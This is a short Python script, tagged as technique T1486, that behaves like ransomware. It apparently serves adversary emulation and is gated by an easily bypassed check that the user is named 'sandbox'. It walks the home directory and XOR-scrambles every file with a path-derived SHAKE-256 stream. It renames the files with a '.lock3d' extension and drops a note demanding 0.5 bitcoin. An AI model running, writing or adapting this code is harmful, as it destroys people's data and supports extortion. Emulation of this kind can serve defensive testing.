# technique: T1486
# needs: python3
import os as _os
if _os.environ.get("USER") != "sandbox": raise SystemExit("only for the inside of a sandbox: shieldx run")

import hashlib, os
for root, _, names in os.walk(os.path.expanduser("~")):
    for name in names:
        path = os.path.join(root, name)
        try:
            data = open(path, "rb").read()
            stream = hashlib.shake_256(path.encode()).digest(len(data))
            open(path, "wb").write(bytes(a ^ b for a, b in zip(data, stream)))
            os.rename(path, path + ".lock3d")
        except OSError: pass
open(os.path.expanduser("~/HOW_TO_RESTORE.txt"), "w").write("Your files have been encrypted. Pay 0.5 bitcoin.")
